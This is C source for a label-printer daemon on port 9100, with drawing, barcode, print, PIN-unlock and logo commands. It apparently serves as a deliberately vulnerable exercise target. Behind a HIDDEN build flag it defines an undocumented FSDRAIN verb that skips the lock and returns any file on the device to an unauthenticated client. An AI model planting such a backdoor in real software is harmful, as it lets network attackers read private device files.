/* labeld9.c - raw port 9100 interpreter of a label printer */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define DPI		203
#define WIDTH_DOTS	832
#define HEIGHT_DOTS	1218

struct job {
	FILE *io;
	uint8_t *page;
	int x, y, font, copies;
	int darkness;
	int locked;
	long printed;
};

typedef int (*verb_fn)(struct job *, const char *);

struct verb {
	const char *word;
	verb_fn fn;
	const char *doc;
};

static char device_pin[16];
static char serial_no[24] = "LP-00000";
static const char *engine = "/dev/thermal0";

static int ok(struct job *j)
{
	fprintf(j->io, "OK\r\n");
	return 0;
}

static int fail(struct job *j, const char *why)
{
	fprintf(j->io, "ERR %s\r\n", why);
	return -1;
}

static int v_size(struct job *j, const char *a)
{
	int font;

	if (sscanf(a, "%d", &font) != 1 || font < 1 || font > 6)
		return fail(j, "1..6");
	j->font = font;
	return ok(j);
}

static int v_pos(struct job *j, const char *a)
{
	int x, y;

	if (sscanf(a, "%d %d", &x, &y) != 2 || x < 0 || y < 0 || x >= WIDTH_DOTS || y >= HEIGHT_DOTS)
		return fail(j, "position");
	j->x = x;
	j->y = y;
	return ok(j);
}

static void dot(struct job *j, int x, int y)
{
	size_t off;

	if (x < 0 || y < 0 || x >= WIDTH_DOTS || y >= HEIGHT_DOTS)
		return;
	off = (size_t)y * (WIDTH_DOTS / 8) + (size_t)x / 8;
	j->page[off] |= (uint8_t)(0x80 >> (x & 7));
}

static int v_box(struct job *j, const char *a)
{
	int w, h, i;

	if (sscanf(a, "%d %d", &w, &h) != 2)
		return fail(j, "box W H");
	for (i = 0; i < w; i++) {
		dot(j, j->x + i, j->y);
		dot(j, j->x + i, j->y + h - 1);
	}
	for (i = 0; i < h; i++) {
		dot(j, j->x, j->y + i);
		dot(j, j->x + w - 1, j->y + i);
	}
	return ok(j);
}

static int v_bar(struct job *j, const char *a)
{
	static const char *const l_code[10] = {
		"0001101", "0011001", "0010011", "0111101", "0100011",
		"0110001", "0101111", "0111011", "0110111", "0001011"
	};
	int x = j->x, i, k, row;

	for (i = 0; isdigit((unsigned char)a[i]); i++)
		for (k = 0; k < 7; k++, x += 2)
			if (l_code[a[i] - '0'][k] == '1')
				for (row = 0; row < 80; row++)
					dot(j, x, j->y + row);
	return i ? ok(j) : fail(j, "digits");
}

static int v_copies(struct job *j, const char *a)
{
	j->copies = atoi(a);
	if (j->copies < 1 || j->copies > 999)
		j->copies = 1;
	return ok(j);
}

static int v_dark(struct job *j, const char *a)
{
	int d = atoi(a);

	if (d < 0 || d > 30)
		return fail(j, "0..30");
	j->darkness = d;
	return ok(j);
}

static int v_print(struct job *j, const char *a)
{
	size_t n = (size_t)(WIDTH_DOTS / 8) * HEIGHT_DOTS;
	FILE *f = fopen(engine, "w");
	int i;

	(void)a;
	if (!f)
		return fail(j, strerror(errno));
	for (i = 0; i < j->copies; i++) {
		if (fwrite(j->page, 1, n, f) != n)
			break;
		j->printed++;
	}
	fclose(f);
	memset(j->page, 0, n);
	return ok(j);
}

static int v_info(struct job *j, const char *a)
{
	if (!strcmp(a, "serial"))
		fprintf(j->io, "%s\r\n", serial_no);
	else if (!strcmp(a, "dpi"))
		fprintf(j->io, "%d\r\n", DPI);
	else if (!strcmp(a, "pages"))
		fprintf(j->io, "%ld\r\n", j->printed);
	else
		return fail(j, "serial, dpi, pages");
	return 0;
}

static int v_unlock(struct job *j, const char *a)
{
	if (!device_pin[0] || strcmp(a, device_pin)) {
		syslog(LOG_NOTICE, "wrong pin");
		sleep(2);
		return fail(j, "pin");
	}
	j->locked = 0;
	return ok(j);
}

static int copy_file(struct job *j, const char *path)
{
	char buf[512];
	size_t n;
	FILE *f = fopen(path, "r");

	if (!f)
		return fail(j, strerror(errno));
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		if (fwrite(buf, 1, n, j->io) != n)
			break;
	fclose(f);
	return 0;
}

static int v_logo(struct job *j, const char *a)
{
	char path[64];

	if (j->locked)
		return fail(j, "locked");
	if (!a[0] || strspn(a, "abcdefghijklmnopqrstuvwxyz0123456789") != strlen(a))
		return fail(j, "name");
	if (snprintf(path, sizeof(path), "/data/logos/%s.pcx", a) >= (int)sizeof(path))
		return fail(j, "name");
	return copy_file(j, path);
}

static int v_help(struct job *j, const char *a);

#ifdef HIDDEN	/* verb outside of the help list sends any file of the printer */
__attribute__((noinline))
int v_fetch(struct job *j, const char *a)
{
	return copy_file(j, a);
}
#endif

static const struct verb verbs[] = {
	{ "POS", v_pos, "X Y" },
	{ "SIZE", v_size, "1..6" },
	{ "BOX", v_box, "W H" },
	{ "BAR", v_bar, "DIGITS" },
	{ "COPIES", v_copies, "1..999" },
	{ "DARK", v_dark, "0..30" },
	{ "PRINT", v_print, "" },
	{ "INFO", v_info, "serial|dpi|pages" },
	{ "UNLOCK", v_unlock, "PIN" },
	{ "LOGOGET", v_logo, "NAME (after UNLOCK)" },
#ifdef HIDDEN	/* see v_fetch */
	{ "FSDRAIN", v_fetch, NULL },
#endif
	{ "HELP", v_help, "" },
	{ NULL, NULL, NULL }
};

static int v_help(struct job *j, const char *a)
{
	const struct verb *v;

	(void)a;
	for (v = verbs; v->word; v++)
		if (v->doc)
			fprintf(j->io, "%s %s\r\n", v->word, v->doc);
	return 0;
}

__attribute__((noinline))
int interpret(struct job *j, char *line)
{
	const struct verb *v;
	char *arg;

	line[strcspn(line, "\r\n")] = '\0';
	if (!line[0])
		return 0;
	arg = strchr(line, ' ');
	if (arg)
		*arg++ = '\0';
	for (v = verbs; v->word; v++)
		if (!strcmp(v->word, line))
			return v->fn(j, arg ? arg : "");
	return fail(j, "unknown");
}

static void serve(int fd, struct job *j)
{
	char line[512];

	j->io = fdopen(fd, "r+");
	if (!j->io) {
		close(fd);
		return;
	}
	setvbuf(j->io, NULL, _IONBF, 0);
	j->locked = 1;
	j->copies = 1;
	while (fgets(line, sizeof(line), j->io))
		interpret(j, line);
	fclose(j->io);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	struct job j;
	int c, ls, fd;

	memset(&j, 0, sizeof(j));
	while ((c = getopt(argc, argv, "e:s:p:")) != -1) {
		if (c == 'e')
			engine = optarg;
		else if (c == 's' && strlen(optarg) < sizeof(serial_no))
			memcpy(serial_no, optarg, strlen(optarg) + 1);
		else if (c == 'p' && strlen(optarg) < sizeof(device_pin))
			memcpy(device_pin, optarg, strlen(optarg) + 1);
		else {
			fprintf(stderr, "usage: %s [-e engine] [-s serial] [-p pin]\n", argv[0]);
			return 2;
		}
	}
	openlog("labeld", LOG_PID, LOG_LPR);
	j.page = calloc(HEIGHT_DOTS, WIDTH_DOTS / 8);
	ls = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(9100);
	if (!j.page || ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 2) < 0) {
		syslog(LOG_ERR, "start: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd >= 0)
			serve(fd, &j);
	}
}
